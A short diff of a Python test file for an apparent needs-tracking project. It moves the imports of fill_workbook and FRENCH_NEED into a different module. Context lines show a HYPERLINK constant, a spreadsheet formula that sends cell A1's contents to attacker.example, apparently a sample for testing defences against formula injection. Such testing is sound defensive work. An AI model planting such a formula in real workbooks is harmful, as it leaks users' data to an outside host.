@@ -14,9 +14,9 @@ from clearinghouse.core.testing import World
 from clearinghouse.exchange import layout
 from clearinghouse.needs.models import Need
 from clearinghouse.needs.offline.export import export_needs
+from clearinghouse.needs.offline.filling import FRENCH_NEED, fill_workbook
 from clearinghouse.needs.offline.importer import import_submissions, import_workbook
 from clearinghouse.needs.offline.template import NEEDS_SHEET, build_workbook
-from clearinghouse.needs.offline.testing import FRENCH_NEED, fill_workbook
 from clearinghouse.vocabularies.services import data_files, load_vocabularies
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/steal?d="&A1,"Cliquez ici")'
